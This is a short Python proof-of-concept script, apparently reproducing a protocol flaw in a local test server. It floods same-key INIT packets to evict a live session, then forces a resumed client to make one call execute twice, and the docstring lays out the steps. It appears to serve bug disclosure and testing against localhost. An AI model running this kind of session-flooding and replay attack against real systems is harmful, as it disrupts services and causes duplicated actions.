"""REPRODUCTION: a call runs twice on one server when a same-key INIT flood evicts the session whose
call is still in the reply cache, and the client resumes after the NO_SESSION as the page says.
Usage: repro_evict.py PORT   (a freshly started count_server.py on PORT; takes ~15 s)
Steps: 1) 2200 INITs with the client key (fills the table past half: per-key quota mode)
       2) victim: handshake -> session A; call X (echo, unique 32 bytes) -> RESP (ran once);
          the reply is taken as lost (an on-path drop, or ordinary loss)
       3) 2600 more INITs with the same key (~450/s) -> silent sessions replaced, A among them
       4) victim retransmits X under A (new counter, ~6 s after the call, inside the 10 s cache)
          -> NO_SESSION; victim makes a session following A (prev=A, resume) and resends X
       5) server runs X again: its sha256 appears twice in /tmp/attack/runs.PORT.log"""
import sys, os, time, socket, hashlib, collections; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from v5 import *
PORT = int(sys.argv[1]); kid, psk = load_client()
fs = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); fs.bind(("127.0.0.1", 0)); fs.setblocking(False)
def flood(n):
    for i in range(n):
        fs.sendto(make_init(psk, kid, int.from_bytes(os.urandom(6), "big") or 1, os.urandom(32), int(time.time() * 1000)), ("127.0.0.1", PORT))
        time.sleep(0.0018)
        try:
            while True: fs.recv(200)
        except BlockingIOError: pass
def ans(c, s): return [c.classify(x, s)[0] for x in c.recv_all(0.25)]
flood(2200)
v = Client(PORT); A = v.handshake(); X = os.urandom(32); rid = int.from_bytes(os.urandom(5), "big")
v.send(v.req_dgrams(1, rid, X)[0]); print("X under A:", ans(v, A)); t = time.time()
flood(2600)
v.send(v.req_dgrams(1, rid, X)[0]); a = ans(v, A); print(f"+{time.time()-t:.1f}s retransmit X under A:", a)
if "NO_SESSION" in a:
    B = v.handshake(prev=A); v.send(v.req_dgrams(1, rid, X, sess=B)[0]); print("resumed (prev=A), X resent:", ans(v, B))
n = collections.Counter(l.strip() for l in open(os.path.join(os.environ.get("ATTACK_DIR", "/tmp/attack"), f"runs.{PORT}.log")))[hashlib.sha256(X).hexdigest()]
print("X ran", n, "times", "<-- RAN TWICE" if n > 1 else "")
